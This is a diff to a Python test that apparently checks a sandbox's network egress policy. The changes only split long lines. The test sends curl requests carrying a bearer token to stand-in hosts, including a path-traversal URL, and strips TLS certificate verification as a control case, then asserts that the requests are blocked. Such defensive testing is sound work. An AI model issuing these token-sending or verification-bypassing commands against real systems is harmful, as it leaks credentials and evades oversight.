@@ -69,7 +69,8 @@ def test_only_what_is_bound(suite):
                 "dots": f"curl -sS --path-as-is {bearer} https://caught.example:8444/v1/../out3"}.items():
             said = world.sh(session, command)
             check("is not allowed" in said, f"{name}: the session's own policy: {said}")
-        said = world.sh(session, f"curl -sSk {bearer} https://www.example/out4; curl -sSk {bearer} https://caught.example/out5")
+        said = world.sh(session, f"curl -sSk {bearer} https://www.example/out4; "
+                                 f"curl -sSk {bearer} https://caught.example/out5")
         check("host=" not in said and "GET" not in said, said)
         suite.net.settle()
         check(not origin(suite).has("/out") and not suite.net.reached("out4"), "something arrived")
@@ -83,7 +84,8 @@ def test_only_what_is_bound(suite):
             equal(origin(suite).keys("/v1/out8"), [None], f"without a key as it came: {said}")
             said = world.sh(other, ISSUER + "www.example:443")
             check("authority of the test" in said, f"another host is not opened: {said}")
-            said = world.sh(other, ISSUER.replace('c.load_verify_locations("/agent/ca.pem")', "pass") + "caught.example:8444")
+            own = ISSUER.replace('c.load_verify_locations("/agent/ca.pem")', "pass")
+            said = world.sh(other, own + "caught.example:8444")
             check("superserve session" in said, f"the control: {said}")
             inner = world.sh(session, "cat $SSL_CERT_FILE | tail -n 20")
             outer = world.sh(other, "cat $SSL_CERT_FILE | tail -n 20")
